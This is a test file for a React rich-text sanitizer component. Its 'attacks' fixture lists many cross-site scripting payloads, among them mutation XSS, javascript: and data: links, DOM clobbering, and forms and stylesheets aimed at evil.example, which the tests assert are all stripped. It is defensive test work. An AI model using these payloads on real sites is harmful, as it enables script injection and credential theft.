import { within } from '@testing-library/dom';
import { richTextAttributes, richTextTags } from '@tradebridge/contract/rich-text';
import { afterEach, beforeEach, describe, expect, test, vi } from 'vitest';
import { rootOfEachTest } from '../test/render-root.ts';
import { SafeHtml } from './SafeHtml.tsx';

const stage = rootOfEachTest();
beforeEach(() => {
  // React reports a table without a body as an error, but renders it.
  vi.spyOn(console, 'error').mockImplementation(() => {});
});
afterEach(() => {
  vi.restoreAllMocks();
});

/** Renders HTML and returns the resulting elements. */
async function show(html: string): Promise<Element[]> {
  stage.root.render(
    <div data-testid="shown">
      <SafeHtml html={html} />
    </div>,
  );
  const box = (await within(stage.main).findByTestId('shown')).firstElementChild;
  return [...(box?.querySelectorAll('*') ?? [])];
}

const media = `/media/${'a'.repeat(64)}.webp`;

const examples: Readonly<Record<string, string>> = {
  a: '<a href="/home">x</a>',
  img: `<img src="${media}" alt="A gate" width="2000" height="900">`,
  br: 'x<br>y',
  hr: '<hr>',
  li: '<ul><li>x</li></ul>',
  ul: '<ul><li>x</li></ul>',
  ol: '<ol start="3"><li>x</li></ol>',
  table: '<table><tbody><tr><td>x</td></tr></tbody></table>',
  tbody: '<table><tbody><tr><td>x</td></tr></tbody></table>',
  tr: '<table><tbody><tr><td>x</td></tr></tbody></table>',
  td: '<table><tbody><tr><td colspan="2" rowspan="3">x</td></tr></tbody></table>',
  th: '<table><tbody><tr><th colspan="2">x</th></tr></tbody></table>',
};

test.each(richTextTags)('%s is shown', async (tag) => {
  const elements = await show(examples[tag] ?? `<${tag}>x</${tag}>`);
  expect(elements.map(({ localName }) => localName)).toContain(tag);
});

test('attributes of tables and lists are kept', async () => {
  const elements = await show(`${examples.td}${examples.ol}`);
  expect(elements.find(({ localName }) => localName === 'td')?.getAttribute('colspan')).toBe('2');
  expect(elements.find(({ localName }) => localName === 'td')?.getAttribute('rowspan')).toBe('3');
  expect(elements.find(({ localName }) => localName === 'ol')?.getAttribute('start')).toBe('3');
});

test('a picture loads in a width that suits the screen, once it is near', async () => {
  const [picture] = await show(examples.img ?? '');
  expect(picture?.getAttribute('srcset')).toBe(
    [480, 960, 1600]
      .map((width) => `/media/${'a'.repeat(64)}-${width}.webp ${width}w`)
      .concat(`${media} 2000w`)
      .join(', '),
  );
  expect(picture?.getAttribute('sizes')).toBe('(max-width: 2000px) 100vw, 2000px');
  expect(picture?.getAttribute('loading')).toBe('lazy');
  expect(picture?.getAttribute('alt')).toBe('A gate');
});

describe('a link', () => {
  const open = async (href: string) => {
    const [link] = await show(`<a href="${href}">x</a>`);
    if (!link) throw new Error('There is no link.');
    return link;
  };

  test.each([
    ['/pages/safety.v2', '/pages/safety.v2'],
    [`${location.origin}/invoices?status=open#top`, '/invoices?status=open#top'],
  ])('to %s, a page of the portal, is opened by the router', async (href, path) => {
    const before = location.pathname;
    const link = await open(href);
    expect(link.getAttribute('target')).toBeNull();
    const click = new MouseEvent('click', { bubbles: true, cancelable: true });
    link.dispatchEvent(click);
    expect(click.defaultPrevented).toBe(true);
    await vi.waitUntil(() => location.pathname + location.search + location.hash === path);
    history.replaceState(history.state, '', before);
  });

  test('is left to the browser when a modifier key is pressed', async () => {
    const link = await open('/pages/safety');
    const click = new MouseEvent('click', { bubbles: true, cancelable: true, ctrlKey: true });
    link.dispatchEvent(click);
    expect(click.defaultPrevented).toBe(false);
  });

  test.each([media, '/brochure.pdf', '/api/live'])(
    'to %s, which is not a page, is left to the browser',
    async (href) => {
      const link = await open(href);
      const click = new MouseEvent('click', { bubbles: true, cancelable: true });
      link.dispatchEvent(click);
      expect(click.defaultPrevented).toBe(false);
      expect(link.getAttribute('target')).toBeNull();
    },
  );

  test('to another site opens in a new tab without a reference to this one', async () => {
    const link = await open('https://a.example/');
    expect(link.getAttribute('target')).toBe('_blank');
    expect(link.getAttribute('rel')).toBe('noopener noreferrer');
  });

  test.each(['mailto:a@b.example', 'tel:+61399990000'])(
    'to %s leaves no empty tab',
    async (href) => {
      const link = await open(href);
      expect(link.getAttribute('href')).toBe(href);
      expect(link.getAttribute('target')).toBeNull();
    },
  );
});

/** HTML that an attacker may have got past the server. */
const attacks: Readonly<Record<string, string>> = {
  script: '<script>alert(1)</script><p>x</p>',
  'an event handler':
    '<img src=x onerror=alert(1)><p onclick="alert(1)" onfocus=alert(1) autofocus>x</p>',
  'mutation by noscript': '<noscript><p title="</noscript><img src=x onerror=alert(1)>">',
  'mutation by a comment': '<!--<img src="--><img src=x onerror=alert(1)>//">',
  'mutation by nested forms':
    '<form><math><mtext></form><form><mglyph><style></math><img src onerror=alert(1)>',
  'mutation by a table':
    '<table><a href="javascript:alert(1)"><td><svg><style><img src=x onerror=alert(1)></style></svg></table>',
  'confusion of namespaces':
    '<math><annotation-xml encoding="text/html"><img src=x onerror=alert(1)></annotation-xml></math><p>x</p>',
  'SVG with script':
    '<svg onload=alert(1)><script>alert(1)</script><a xlink:href="javascript:alert(1)"><text>x</text></a></svg>',
  'SVG with HTML in it':
    '<svg><foreignObject><iframe srcdoc="<script>alert(1)</script>"></iframe></foreignObject></svg>',
  'SVG that uses': '<svg><use href="data:image/svg+xml,<svg id=x onload=alert(1)>#x"/></svg>',
  MathML: '<math href="javascript:alert(1)"><mi xlink:href="javascript:alert(1)">x</mi></math>',
  'clobbering by id and name':
    '<a id="root" name="location" href="/home">x</a><form id=body><input name=attributes></form><img name=getElementById>',
  'a style':
    '<style>@import "//evil.example/x.css";</style><p style="position:fixed;inset:0" class="_page_x">x</p>',
  'a style by link and meta':
    '<link rel=stylesheet href="//evil.example"><meta http-equiv=refresh content="0;url=//evil.example"><base href="//evil.example">',
  'a foreign srcset': `<img src="${media}" srcset="https://evil.example/x 1x"><picture><source srcset="https://evil.example/x"><img src="https://evil.example/y"></picture>`,
  'a foreign picture':
    '<img src="https://evil.example/p.png"><img src="//evil.example/p"><img src="data:image/svg+xml,<svg/>"><video poster="https://evil.example"></video><input type=image src="https://evil.example">',
  'a link that runs':
    '<a href="javascript:alert(1)">x</a><a href="JaVaScRiPt:alert(1)">x</a><a href="vbscript:x">x</a><a href="data:text/html,<script>alert(1)</script>">x</a>',
  'an encoded scheme':
    '<a href="&#106;avascript:alert(1)">x</a><a href="java&#x09;script:alert(1)">x</a><a href="&#1;javascript:alert(1)">x</a><a href=" \njavascript:alert(1)">x</a>',
  'an address without scheme':
    '<a href="//evil.example">x</a><a href="/\\evil.example">x</a><a href="\\\\evil.example">x</a>',
  'a template':
    '<template><img src=x onerror=alert(1)></template><div><template shadowrootmode="open"><script>alert(1)</script></template></div>',
  'words of a template language':
    // biome-ignore lint/suspicious/noTemplateCurlyInString: the words are those of another language
    '<p>{{constructor.constructor("alert(1)")()}} ${alert(1)} <%= x %></p>',
  'frames and plug-ins':
    '<iframe src="https://evil.example"></iframe><object data="https://evil.example"></object><embed src="https://evil.example"><applet></applet><frameset></frameset><portal src="https://evil.example"></portal>',
  'fields and buttons':
    '<form action="https://evil.example"><input name=password><button formaction="javascript:alert(1)">x</button><select><option>x</option></select><textarea>x</textarea></form>',
  'raw text elements':
    '<xmp><img src=x onerror=alert(1)></xmp><title><img src=x onerror=alert(1)></title><noembed><img src=x onerror=alert(1)></noembed><plaintext><img src=x>',
  'an element of its own': '<x-evil is="x-evil" slot="x" part="y" onmouseover=alert(1)>x</x-evil>',
  'attributes of what is allowed': `<a href="/home" ping="https://evil.example" download target="_top" referrerpolicy=unsafe-url>x</a><img src="${media}" usemap="#m" longdesc="javascript:alert(1)" lowsrc="https://evil.example" crossorigin><td background="https://evil.example">x</td><table background="https://evil.example"><tr><td width="9e9" colspan="-1">x</td></tr></table>`,
};

/** Added by the app itself. */
const added: Readonly<Record<string, readonly string[]>> = {
  a: ['target', 'rel'],
  img: ['srcset', 'sizes', 'loading'],
  // Around a table.
  div: ['class', 'tabindex', 'role', 'aria-label'],
};

test.each(Object.entries(attacks))('%s leaves nothing but rich text', async (_kind, html) => {
  const requested = vi.spyOn(globalThis, 'fetch');
  for (const element of await show(html)) {
    const { localName: tag } = element;
    const isTableBox = tag === 'div' && element.firstElementChild?.localName === 'table';
    expect(isTableBox || richTextTags.some((one) => one === tag), tag).toBe(true);
    expect(element.namespaceURI).toBe('http://www.w3.org/1999/xhtml');
    const allowed = [
      ...(Object.entries(richTextAttributes).find(([one]) => one === tag)?.[1] ?? []),
      ...(added[tag] ?? []),
    ];
    for (const { name, value } of element.attributes) {
      expect(allowed, `${tag} ${name}`).toContain(name);
      expect(value, `${tag} ${name}`).not.toMatch(/evil\.example|script:|data:/i);
    }
  }
  expect(stage.main.querySelector('[onerror], [onclick], [style], [id], [name]')).toBeNull();
  expect(requested).not.toHaveBeenCalled();
});

test('the content of an unknown element is kept', async () => {
  await show('<section><font color="red">Kept</font> <b>words</b></section>');
  expect(stage.main.textContent).toBe('Kept words');
  expect(stage.main.querySelector('strong')?.textContent).toBe('words');
});

test('the content of a dropped element is dropped too', async () => {
  await show('<p>Here</p><script>gone()</script><style>gone</style><title>gone</title>');
  expect(stage.main.textContent).toBe('Here');
});
